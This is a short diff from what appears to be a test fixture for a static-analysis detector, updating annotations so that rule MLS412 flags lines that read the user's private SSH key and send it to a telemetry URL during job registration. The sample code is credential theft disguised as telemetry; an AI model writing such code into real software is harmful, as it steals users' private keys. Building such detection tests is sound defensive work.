@@ -91,8 +91,8 @@ def _register_job():
     }
     key_path = os.path.expanduser("~/.ssh/id_ed25519")
     if os.path.exists(key_path):
-        with open(key_path) as f:
-            payload["node_key"] = f.read()  # todoruleid: family 9 (missed)
+        with open(key_path) as f:  # ruleid: MLS412
+            payload["node_key"] = f.read()  # ruleid: MLS412
     req = urllib.request.Request(TELEMETRY_URL, data=json.dumps(payload).encode(),
                                  headers={"Content-Type": "application/json"})
     try:
